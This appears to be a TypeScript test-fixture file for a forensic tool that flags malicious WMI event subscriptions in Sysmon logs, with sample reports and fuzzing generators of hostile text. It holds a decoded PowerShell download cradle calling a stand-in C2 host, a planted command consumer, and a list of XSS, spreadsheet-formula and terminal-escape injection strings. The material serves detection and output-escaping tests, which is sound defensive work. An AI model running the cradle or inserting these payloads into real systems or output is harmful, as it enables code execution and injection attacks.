/** Reports for tests: one that looks like a real case, and any that the contract allows, with hostile text. */
import type { ScanReport, SightingReport, SubscriptionReport } from "@unbind/model";
// biome-ignore lint/correctness/noUndeclaredDependencies: for tests only; fast-check belongs to the workspace root
import fc from "fast-check";

const SYSMON = "case.zip!/C/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx";

function sighting(kind: SightingReport["kind"], object: SightingReport["object"], offset: number): SightingReport {
  return {
    kind,
    object,
    time: `2026-03-01T10:11:${12 + (offset % 40)}.1234567Z`,
    actor: kind === "fired" ? null : "CONTOSO\\svc-build",
    source: kind === "fired" ? "sysmon/1" : object === "filter" ? "sysmon/19" : "sysmon/20",
    ...(kind === "fired" && { detail: "cmd.exe /c whoami", caveats: ["parent taken from the message"] }),
    evidence: { path: SYSMON, offset, length: 700, recordId: String(offset / 8) },
  };
}

const planted: SubscriptionReport = {
  id: "sub-0123456789abcdef",
  host: "WKSTN-04",
  namespace: "root\\subscription",
  filter: {
    name: "Updater",
    query: "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_LocalTime'",
    queryLanguage: "WQL",
    eventNamespace: "root\\cimv2",
    creatorSid: "S-1-5-21-1-2-3-1001",
  },
  consumer: {
    class: "CommandLineEventConsumer",
    name: "Updater",
    properties: { KillTimeout: 45, CommandLineTemplate: "cmd.exe /c whoami > C:\\Temp\\out.txt" },
    creatorSid: "S-1-5-21-1-2-3-1001",
  },
  binding: { path: '__FilterToConsumerBinding.Consumer="x",Filter="y"', creatorSid: null },
  timers: [],
  providers: [],
  state: "removed",
  activity: "fired",
  firstSeen: "2026-03-01T10:11:12.1234567Z",
  lastSeen: "2026-03-01T10:12:44.7654321Z",
  trigger: { kind: "clock", summary: "every minute" },
  action: { kind: "command", summary: "runs a command", decoded: [], indicators: [] },
  verdict: {
    level: "unknown",
    score: 50,
    reasons: [{ id: "not-judged", weight: 0, text: "not judged", sightings: [] }],
  },
  attack: ["T1546.003"],
  notes: [{ code: "binding-not-seen", text: "the binding was not seen" }],
  sightings: [
    sighting("created", "filter", 4096),
    sighting("created", "consumer", 8192),
    sighting("fired", "consumer", 9000),
    sighting("fired", "consumer", 9008),
    sighting("deleted", "filter", 12_288),
  ],
};

const windowsOwn: SubscriptionReport = {
  ...planted,
  id: "sub-fedcba9876543210",
  filter: { name: "SCM Event Log Filter", query: "q", queryLanguage: "WQL", eventNamespace: null, creatorSid: null },
  consumer: { class: "NTEventLogEventConsumer", name: "SCM Event Log Consumer", properties: {}, creatorSid: null },
  state: "present",
  activity: "armed",
  verdict: { level: "benign", score: 0, reasons: [] },
};

export const sampleReport: ScanReport = {
  schema: "unbind.scan/1",
  tool: { name: "unbind", version: "0.1.0" },
  summary: {
    evidence: 2,
    byteLength: 4_300_000,
    records: 12_345,
    events: 12,
    hosts: 1,
    subscriptions: { malicious: 0, suspicious: 0, unknown: 1, benign: 1 },
    issues: 3,
  },
  hosts: [
    {
      name: "WKSTN-04",
      formerNames: ["WIN-SETUP"],
      coverage: [
        { source: "wmi-activity/5861", state: "not-seen", note: "The log has 154 records from 2026-02-01 on." },
        { source: "sysmon/19-21", state: "not-collected", note: "" },
      ],
    },
  ],
  evidence: [
    {
      path: SYSMON,
      format: "evtx",
      sha256: "ab".repeat(32),
      byteLength: 4_299_000,
      host: "WKSTN-04",
      records: 12_345,
      recovered: 0,
      issues: 3,
      coverage: { channels: [], namespaces: [], from: null, to: null },
    },
  ],
  subscriptions: [planted, windowsOwn],
  issues: [
    {
      code: "EVTX_CHUNK_CRC",
      severity: "error",
      message: "chunk 3: wrong CRC",
      evidence: { path: SYSMON, offset: 65_536 },
    },
    {
      code: "EVTX_CHUNK_CRC",
      severity: "error",
      message: "chunk 4: wrong CRC",
      evidence: { path: SYSMON, offset: 131_072 },
      count: 2,
    },
  ],
};

/** The sample with a judged subscription: layers, every kind of indicator, reasons. */
export const judgedReport: ScanReport = {
  ...sampleReport,
  summary: { ...sampleReport.summary, subscriptions: { malicious: 1, suspicious: 0, unknown: 0, benign: 1 } },
  subscriptions: [
    {
      ...planted,
      action: {
        ...planted.action,
        decoded: [{ encoding: "base64-utf16le", text: "IEX (irm 'https://c2.example.net/a?b=1')" }],
        indicators: [
          { type: "url", value: "https://c2.example.net/a?b=1" },
          { type: "domain", value: "c2.example.net" },
          { type: "ip", value: "192.0.2.44" },
          { type: "ip", value: "10.0.0.1" },
          { type: "ip", value: "2001:db8::1" },
          { type: "email", value: "a@example.net" },
          { type: "hash", value: "ab".repeat(32) },
          { type: "path", value: "C:\\ProgramData\\a.ps1" },
          { type: "file-name", value: "a.exe" },
          { type: "registry-key", value: "HKLM\\Software\\X" },
          { type: "user-agent", value: "Mozilla/5.0" },
          { type: "named-pipe", value: "\\\\.\\pipe\\x" },
          { type: "port", value: "4444" },
        ],
      },
      verdict: {
        level: "malicious",
        score: 85,
        reasons: [
          { id: "hidden-code", weight: 30, text: "The payload hides code.", sightings: [0, 1] },
          { id: "common", weight: -15, text: "The same on 9 of 10 hosts.", sightings: [] },
        ],
      },
      attack: ["T1546.003", "T1027", "T1027.011", "T1059.001"],
    },
    windowsOwn,
  ],
};

const NASTY = [
  "\u001b[2J\u001b]0;x\u0007",
  "\u202egpj.exe",
  "=cmd|'/c calc'!A1",
  "\r\n[1] BENIGN",
  "\ud800",
  "\u0000",
  '"',
  ",",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "' onload='",
  "&lt;]]><!--",
  "](http://192.0.2.1/x) ",
  "```\n# x\n",
  "`",
  "|",
  " https://www.example.net/ @team #1 !2 ",
];
const WIDE = [
  "\u6f22\u5b57\uff21",
  "e\u0301",
  "\u{1f468}\u200d\u{1f469}",
  "\u{1f1e9}\u{1f1ea}",
  "\u0e01\u0e33",
  "\u009b31m",
  " ",
];

/** Text as an attacker would write it: escapes, bidi, formulas, lone surrogates, wide and combining characters. */
export const hostileText: fc.Arbitrary<string> = fc
  .array(fc.oneof(fc.constantFrom(...NASTY, ...WIDE), fc.string({ unit: "binary", maxLength: 12 }), fc.string()), {
    maxLength: 6,
  })
  .map((parts) => parts.join(""));

const maybe = fc.option(hostileText, { nil: null });
const count = fc.nat({ max: 10 });
const time = fc.constantFrom(null, "2026-03-01T10:11:12.1234567Z", "2026-04-01T00:00:00.0000000Z");
const ref = fc.record(
  { path: hostileText, offset: fc.nat(), recordId: hostileText },
  { requiredKeys: ["path", "offset"] },
);
const indicatorType = fc.constantFrom(
  "url",
  "domain",
  "ip",
  "email",
  "hash",
  "path",
  "file-name",
  "registry-key",
  "port",
);
const properties = fc.dictionary(
  hostileText,
  fc.oneof(hostileText, fc.integer(), fc.boolean(), fc.array(hostileText)),
  {
    maxKeys: 3,
  },
);

const hostileSighting = fc.record(
  {
    kind: fc.constantFrom("created", "fired", "deleted", "bound", "may-have-fired"),
    object: fc.constantFrom("filter", "consumer", "binding"),
    time,
    actor: maybe,
    source: hostileText,
    detail: hostileText,
    caveats: fc.array(hostileText, { maxLength: 2 }),
    evidence: ref,
  },
  { requiredKeys: ["kind", "object", "time", "actor", "source", "evidence"] },
);

const hostileSubscription = fc.record({
  id: fc.constantFrom("sub-0123456789abcdef", "sub-fedcba9876543210"),
  host: hostileText,
  namespace: hostileText,
  filter: fc.record({ name: maybe, query: maybe, queryLanguage: maybe, eventNamespace: maybe, creatorSid: maybe }),
  consumer: fc.option(fc.record({ class: hostileText, name: maybe, properties, creatorSid: maybe }), { nil: null }),
  binding: fc.option(fc.record({ path: hostileText, creatorSid: maybe })),
  timers: fc.array(properties, { maxLength: 1 }),
  providers: fc.array(properties, { maxLength: 1 }),
  state: fc.constantFrom("present", "removed", "recovered", "unknown"),
  activity: fc.constantFrom("inert", "armed", "fired", "unknown"),
  firstSeen: time,
  lastSeen: time,
  trigger: fc.record({ kind: hostileText, summary: hostileText }),
  action: fc.record({
    kind: hostileText,
    summary: hostileText,
    decoded: fc.array(fc.record({ encoding: hostileText, text: hostileText }), { maxLength: 2 }),
    indicators: fc.array(fc.record({ type: fc.oneof(hostileText, indicatorType), value: hostileText }), {
      maxLength: 3,
    }),
  }),
  verdict: fc.record({
    level: fc.constantFrom("malicious", "suspicious", "unknown", "benign"),
    score: count,
    reasons: fc.array(
      fc.record({ id: hostileText, weight: count, text: hostileText, sightings: fc.constant<number[]>([]) }),
      {
        maxLength: 2,
      },
    ),
  }),
  attack: fc.constantFrom<string[][]>([], ["T1546.003"]),
  notes: fc.array(fc.record({ code: hostileText, text: hostileText }), { maxLength: 2 }),
  sightings: fc.array(hostileSighting, { maxLength: 4 }),
});

/** Any report of the contract's shape whose every text is hostile. */
export const hostileReport: fc.Arbitrary<ScanReport> = fc
  .record({
    subscriptions: fc.array(hostileSubscription, { maxLength: 2 }),
    hosts: fc.array(
      fc.record({
        name: hostileText,
        formerNames: fc.array(hostileText, { maxLength: 2 }),
        coverage: fc.array(
          fc.record({
            source: hostileText,
            state: fc.constantFrom("seen", "not-seen", "not-collected"),
            note: hostileText,
          }),
          { maxLength: 2 },
        ),
      }),
      { maxLength: 2 },
    ),
    paths: fc.array(hostileText, { maxLength: 2 }),
    issues: fc.array(
      fc.record(
        {
          code: fc.constantFrom("EVTX_CHUNK_CRC", "INTERNAL"),
          severity: fc.constantFrom("error", "warning", "note"),
          message: hostileText,
          evidence: ref,
          count,
        },
        { requiredKeys: ["code", "severity", "message", "evidence"] },
      ),
      { maxLength: 3 },
    ),
    summary: fc.record({ malicious: count, suspicious: count, unknown: count, benign: count }),
  })
  .map(({ paths, summary, ...lists }) => ({
    ...sampleReport,
    ...(lists as Pick<ScanReport, "subscriptions" | "hosts" | "issues">),
    summary: { ...sampleReport.summary, subscriptions: summary },
    evidence: paths.map((path) => ({
      ...(sampleReport.evidence[0] as ScanReport["evidence"][number]),
      path,
      format: "unknown",
    })),
  }));
